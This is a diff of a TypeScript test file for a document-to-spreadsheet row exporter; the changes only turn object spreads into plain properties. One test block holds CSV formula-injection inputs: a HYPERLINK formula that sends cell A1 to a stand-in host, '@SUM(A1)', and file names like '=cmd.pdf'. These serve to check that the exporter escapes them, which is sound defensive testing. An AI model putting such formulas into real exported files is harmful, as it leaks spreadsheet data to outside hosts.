@@ -45,7 +45,11 @@ const after = {
 	_skipped: null,
 };
 const document = {
-	...{ number: '7', total: 12.5, total_currency: 'EUR', buyer_name: 'Ann', buyer_paid: true },
+	number: '7',
+	total: 12.5,
+	total_currency: 'EUR',
+	buyer_name: 'Ann',
+	buyer_paid: true,
 };
 /** With the order of the columns. */
 const inOrder = (row: object) => JSON.stringify(row);
@@ -68,7 +72,9 @@ describe('one row per document', () => {
 		const fields = fieldsOf({
 			total: 'amount',
 			buyer: { name: 'string', id: 'string' },
-			...{ buyer_name: 'string', total_currency: 'string', total_currency_2: 'string' },
+			buyer_name: 'string',
+			total_currency: 'string',
+			total_currency_2: 'string',
 		});
 		const own = { buyer_name: 'top', total_currency: 'own' };
 		const row = flat(fields, { ...own, total: '1 EUR', buyer: { name: 'group' } });
@@ -127,14 +133,17 @@ describe('texts that a spreadsheet would run', () => {
 	const lists = fieldsOf({ lines: [{ text: 'string' }] });
 	const link = '=HYPERLINK("http://a.b/?"&A1,"Click")';
 	const answer = {
-		...{ supplier: link, phone: '+49 30 1234', total: '-12.50' },
+		supplier: link,
+		phone: '+49 30 1234',
+		total: '-12.50',
 		lines: [{ text: '- Pen' }, { text: '@SUM(A1)' }],
 	};
 	const skipped = [{ fileName: '=x.pdf', reason: 'is empty' }];
 	const empty = new Problem('the file is empty', { description: 'Send it again' });
 	const of = (output: Output) =>
 		rowsOf(output, [...fields, ...lists], answer, {
-			...{ source: { fileName: '=cmd.pdf' }, more: { skipped } },
+			source: { fileName: '=cmd.pdf' },
+			more: { skipped },
 		});
 
 	const about = { _file: "'=cmd.pdf", _skipped: "'=x.pdf is empty" };
